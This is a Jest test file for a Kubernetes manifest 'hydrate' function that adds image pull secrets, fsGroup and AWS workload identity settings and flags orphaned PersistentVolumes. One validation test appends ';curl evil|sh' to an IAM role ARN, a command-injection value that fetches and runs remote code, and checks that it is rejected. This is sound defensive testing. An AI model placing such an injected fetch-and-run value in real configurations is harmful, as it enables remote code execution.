import { parse, parseAllDocuments } from 'yaml';
import {
  LEGACY_DEPLOYMENT,
  PLAIN_DEPLOYMENT,
  SERVICE,
  SERVICE_MANAGER_DEPLOYMENT,
  stream,
} from '../support/workloads';
import { runText } from '../support/run';

const ROLE = 'arn:aws:iam::123456789012:role/app';
const RETARGET = `apiVersion: fn.retarget.dev/v1alpha1
kind: Retarget
metadata:
  name: t
imagePullSecrets: [gcr-json-key]
fsGroup: 1234
awsWorkloadIdentity:
  roleArn: ${ROLE}
  initSystem: systemd
`;

type Obj = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- test access into parsed YAML
const all = (text: string): Obj[] =>
  parseAllDocuments(text)
    .map((d) => d.toJS() as Obj)
    .filter(Boolean);

describe('hydrate', () => {
  const input = stream(LEGACY_DEPLOYMENT, SERVICE, SERVICE_MANAGER_DEPLOYMENT, PLAIN_DEPLOYMENT);

  test('every stage from one config; link only on the legacy container; twice == once', () => {
    const { output, ok } = runText('hydrate', parse(RETARGET), input);
    expect(ok).toBe(true);
    const docs = all(output);
    const workloads = docs.filter((d) => d.kind === 'Deployment');
    expect(workloads).toHaveLength(3);
    for (const w of workloads) {
      const pod = w.spec.template.spec;
      expect(pod.imagePullSecrets).toEqual([{ name: 'gcr-json-key' }]);
      expect(pod.securityContext.fsGroup).toBe(1234);
      expect(pod.containers[0].env.map((e: Obj) => e.name)).toEqual(
        expect.arrayContaining(['AWS_ROLE_ARN', 'AWS_WEB_IDENTITY_TOKEN_FILE']),
      );
      expect(pod.volumes.map((v: Obj) => v.name)).toContain('aws-iam-token');
    }
    const hasLink = workloads.map((w) =>
      Boolean(w.spec.template.spec.containers[0].lifecycle?.postStart),
    );
    expect(hasLink).toEqual([true, false, false]);
    expect(output.startsWith(LEGACY_DEPLOYMENT.split('\n')[0])).toBe(true);
    expect(runText('hydrate', parse(RETARGET), output).output).toBe(output);
  });

  test('the spec: form and the ConfigMap form give the same output', () => {
    const base = runText('hydrate', parse(RETARGET), input).output;
    const specForm = {
      apiVersion: 'fn.retarget.dev/v1alpha1',
      kind: 'Retarget',
      spec: {
        imagePullSecrets: ['gcr-json-key'],
        fsGroup: 1234,
        awsWorkloadIdentity: { roleArn: ROLE, initSystem: 'systemd' },
      },
    };
    expect(runText('hydrate', specForm, input).output).toBe(base);
    const cm = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      data: {
        imagePullSecrets: 'gcr-json-key',
        fsGroup: '1234',
        'awsWorkloadIdentity.roleArn': ROLE,
        'awsWorkloadIdentity.initSystem': 'systemd',
      },
    };
    expect(runText('hydrate', cm, input).output).toBe(base);
  });

  test('absent sections do nothing; linkKubernetesInfoSecrets: false turns the link off', () => {
    const minimal = {
      apiVersion: 'fn.retarget.dev/v1alpha1',
      kind: 'Retarget',
      linkKubernetesInfoSecrets: false,
    };
    expect(runText('hydrate', minimal, input).output).toBe(input);
  });

  test('config errors name the field in the form the user wrote it', () => {
    const bad = parse(RETARGET.replace(ROLE, `${ROLE};curl evil|sh`));
    const r = runText('hydrate', bad, input);
    expect(r.ok).toBe(false);
    expect(r.results).toEqual([
      expect.objectContaining({
        severity: 'error',
        field: { path: 'awsWorkloadIdentity.roleArn' },
        message: expect.stringContaining('IAM role ARN'),
      }),
    ]);
    expect(r.output).toBe(input);
    const spec = runText(
      'hydrate',
      { apiVersion: 'fn.retarget.dev/v1alpha1', kind: 'Retarget', spec: { fsGroup: 'x' } },
      input,
    );
    expect(spec.results[0].field?.path).toBe('spec.fsGroup');
    const cm = runText(
      'hydrate',
      { apiVersion: 'v1', kind: 'ConfigMap', data: { 'awsWorkloadIdentity.roleArn': 'nope' } },
      input,
    );
    expect(cm.results[0].field?.path).toBe('data.awsWorkloadIdentity.roleArn');
    const kind = runText(
      'hydrate',
      { apiVersion: 'fn.retarget.dev/v1alpha1', kind: 'SetFsGroup', fsGroup: 1 },
      input,
    );
    expect(kind.results[0].field?.path).toBe('kind');
    const mixed = runText(
      'hydrate',
      { apiVersion: 'fn.retarget.dev/v1alpha1', kind: 'Retarget', fsGroup: 1, spec: {} },
      input,
    );
    expect(mixed.results[0].field?.path).toBe('fsGroup');
  });
});

describe('hydrate: a dumped PersistentVolume is not passed on silently', () => {
  const PV = (source: string) => `apiVersion: v1
kind: PersistentVolume
metadata:
  name: data-pv
spec:
  capacity:
    storage: 10Gi
  accessModes: [ReadWriteOnce]
${source}
`;
  const GCE = '  gcePersistentDisk:\n    pdName: vm-data\n    fsType: ext4';
  const EBS = '  awsElasticBlockStore:\n    volumeID: vol-0a1b2c3d4e5f67890';
  const NFS = '  nfs:\n    server: files.example.com\n    path: /exports/data';
  const warnings = (results: { severity: string; message: string }[]) =>
    results.filter((r) => r.severity === 'warning' && /as the migration left it/.test(r.message));

  test.each([
    ['a Compute Engine disk', GCE, 'Compute Engine disk vm-data', 'spec.gcePersistentDisk'],
    ['an EBS volume', EBS, 'EBS volume vol-0a1b2c3d4e5f67890', 'spec.awsElasticBlockStore'],
  ])(
    '%s with no dataVolumes and no target: one warning on its source, output unchanged',
    (_t, source, disk, field) => {
      const input = stream(LEGACY_DEPLOYMENT, PV(source));
      const { output, results, ok } = runText('hydrate', parse(RETARGET), input);
      expect(ok).toBe(true);
      const found = warnings(results);
      expect(found).toHaveLength(1);
      expect(found[0].message).toContain(disk);
      expect(found[0]).toMatchObject({
        resourceRef: { kind: 'PersistentVolume', name: 'data-pv' },
        field: { path: field },
      });
      expect(output).toContain(PV(source));
    },
  );

  test('no warning for a volume that names no disk, with dataVolumes, or with a target (preflight checks it)', () => {
    expect(
      warnings(runText('hydrate', parse(RETARGET), stream(LEGACY_DEPLOYMENT, PV(NFS))).results),
    ).toEqual([]);
    const withDataVolumes = {
      ...parse(RETARGET),
      dataVolumes: { platform: 'gke', mode: 'provision' },
    };
    expect(
      warnings(runText('hydrate', withDataVolumes, stream(LEGACY_DEPLOYMENT, PV(GCE))).results),
    ).toEqual([]);
    const withTarget = { ...parse(RETARGET), target: { platform: 'gke' } };
    expect(
      warnings(runText('hydrate', withTarget, stream(LEGACY_DEPLOYMENT, PV(GCE))).results),
    ).toEqual([]);
  });
});
